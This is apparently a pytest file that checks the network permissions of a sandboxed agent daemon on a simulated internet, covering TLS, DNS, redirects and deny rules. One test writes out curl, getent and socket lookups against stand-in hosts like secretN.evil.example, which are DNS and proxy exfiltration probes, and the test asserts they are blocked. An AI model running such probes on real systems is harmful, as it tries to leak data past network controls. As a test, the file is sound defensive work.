"""Names, TLS and redirects on a small internet: what a real daemon lets out, as a server there sees it."""

import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.support.daemons import Daemon, short_home
from tests.support.small_internet import ADDRESS, SmallInternet
from tests.support.waiting_runs import order

pytestmark = pytest.mark.usefixtures("bubblewrap")

RULES = """
[permissions]
rules = [
    {{ tool = "bash", decision = "allow" }},
    {{ tool = "*", subject = "net:a.example", decision = "allow" }},
    {{ tool = "*", subject = "net:*.wild.example:443", decision = "allow" }},
    {{ tool = "*", subject = "net:denied.example", decision = "allow" }},
    {{ tool = "*", subject = "net:denied.example:443", decision = "deny", note = "never there" }},
]

[workspace]
readable = ["{readable}"]
"""


@pytest.fixture(scope="module")
def internet(tmp_path_factory: pytest.TempPathFactory) -> SmallInternet:
    """Provide an internet."""
    return SmallInternet(tmp_path_factory.mktemp("internet"))


@pytest.fixture(scope="module")
def daemon(internet: SmallInternet) -> Iterator[Daemon]:
    """Provide a daemon on it, which trusts its certificates."""
    with short_home() as home:
        home.mkdir()
        (home / "config.toml").write_text(RULES.format(readable=internet.authority.parent))
        environ = {"SSL_CERT_FILE": str(internet.authority)}
        with Daemon(home, environ=environ, before=internet.before) as daemon:
            yield daemon


def call(daemon: Daemon, tool: str, **arguments: Any) -> str:
    """Call a tool and return its result."""
    run_id = daemon.say(order(tool, **arguments))["run_id"]
    return str(daemon.events(run_id=run_id, types=["tool_returned"])[-1]["text"])


def run(daemon: Daemon, internet: SmallInternet, command: str, **arguments: Any) -> tuple[Any, list[str]]:
    """Run a command; return its decoded result, and what reached the server meanwhile."""
    seen = len(internet.read_log())
    result = json.loads(call(daemon, "bash", command=command, **arguments))
    return result, internet.read_log()[seen:]


def test_clients_reach_an_allowed_name(daemon: Daemon, internet: SmallInternet) -> None:
    """curl, Python and git reach allowed hosts by name, over TLS from end to end."""
    result, log = run(
        daemon,
        internet,
        f"""
export SSL_CERT_FILE={internet.authority} GIT_SSL_CAINFO={internet.authority}
curl -sS --cacert {internet.authority} https://a.example/curl http://a.example/plain
curl -sS --cacert {internet.authority} --proxy socks5h://127.0.0.1:808 https://x.wild.example/socks
python3 -c 'from urllib.request import urlopen; print(urlopen("https://a.example/python").read())'
git ls-remote https://a.example/git 2>&1
""",
    )
    assert result["connected"] == {"a.example:443": 3, "a.example:80": 1, "x.wild.example:443": 1}, result
    assert [line for line in log if line.startswith("get ")][:5] == [
        "get https://a.example/curl",
        "get http://a.example/plain",
        "get https://x.wild.example/socks",
        "get https://a.example/python",
        "get https://a.example/git/info/refs?service=git-upload-pack",
    ]
    assert {line for line in log if line.startswith("dns ")} == {"dns a.example", "dns x.wild.example"}


def test_no_name_carries_anything_out(daemon: Daemon, internet: SmallInternet) -> None:
    """A name that no rule allows reaches no name server, by no way that a command has."""
    result, log = run(
        daemon,
        internet,
        f"""
curl -sS https://secret1.evil.example/; curl -sS http://secret2.evil.example/
curl -sS --proxy socks5h://127.0.0.1:808 http://secret3.evil.example/
curl -sS --proxy socks5://127.0.0.1:808 http://secret4.evil.example/
curl -sS --noproxy '*' http://secret5.evil.example/
getent hosts secret6.evil.example; python3 -c 'import socket; socket.gethostbyname("secret7.evil.example")'
curl -sS http://secret8.wild.example/ http://a.example.evil.example/ http://{ADDRESS}/
curl -sS https://denied.example/ https://DENIED.example./
""",
    )
    assert log == []
    assert "connected" not in result
    assert result["refused"]["denied.example:443"] == 2
    assert len(result["refused"]) == 7


def test_redirects_of_web_fetch_are_judged(daemon: Daemon, internet: SmallInternet) -> None:
    """A redirect is followed to an allowed host only, and not even the name of another one gets out."""
    fetched = call(daemon, "web_fetch", url="https://a.example/x?to=https://y.wild.example/there")
    assert '"final_url":"https://y.wild.example/there"' in fetched
    upgraded = call(daemon, "web_fetch", url="http://a.example/x?to=https://a.example/secure")
    assert '"final_url":"https://a.example/secure"' in upgraded
    seen = len(internet.read_log())
    for location, problem in {
        "https://secret.evil.example/": "no rule allows that host",
        "http://y.wild.example/": "no rule allows that host",
        "https://denied.example/": "never there",
        f"http://{ADDRESS}/": "no rule allows that host",
        "http://127.0.0.1/": "no rule allows that host",
    }.items():
        text = call(daemon, "web_fetch", url=f"https://a.example/x?to={location}")
        assert f"redirects to {location}, which was not fetched: {problem}" in text
        assert "call web_fetch with that URL" in text
    names = {line.removeprefix("dns ") for line in internet.read_log()[seen:] if line.startswith("dns ")}
    assert names == {"a.example"}


def test_a_denied_address_closes_its_names(daemon: Daemon, internet: SmallInternet) -> None:
    """A deny of an address holds for every name that leads there, in commands and for web_fetch."""
    rule = {"tool": "*", "subject": f"net:{ADDRESS}"}
    daemon.call("permission.update", add=[{**rule, "decision": "deny"}])
    result, log = run(daemon, internet, "curl -sS http://a.example/")
    assert result["refused"] == {"a.example:80": 1}
    assert f"the rules deny {ADDRESS}:80" in call(daemon, "web_fetch", url="http://a.example/")
    assert [line for line in log if line.startswith("get ")][:5] == []
    daemon.call("permission.update", remove=[rule])
    assert '"status":200' in call(daemon, "web_fetch", url="http://a.example/")


def test_the_own_address_is_closed(daemon: Daemon, internet: SmallInternet) -> None:
    """A public address of the daemon's own machine is opened by a rule for exactly that address only."""
    result, _ = run(daemon, internet, "curl -sS http://8.8.4.1:9/", network=[])
    rule = {"tool": "bash", "subject": "net:8.8.4.*"}
    daemon.call("permission.update", add=[{**rule, "decision": "allow"}])
    result, _ = run(daemon, internet, "curl -sS http://8.8.4.1:9/")
    assert "this machine: 8.8.4.1:9" in result["note"]
    exact = {"tool": "bash", "subject": "net:8.8.4.1"}
    daemon.call("permission.update", add=[{**exact, "decision": "allow"}])
    result, _ = run(daemon, internet, "curl -sS http://8.8.4.1:9/")
    assert "Connection refused" in result["stdout"]
    daemon.call("permission.update", remove=[rule, exact])
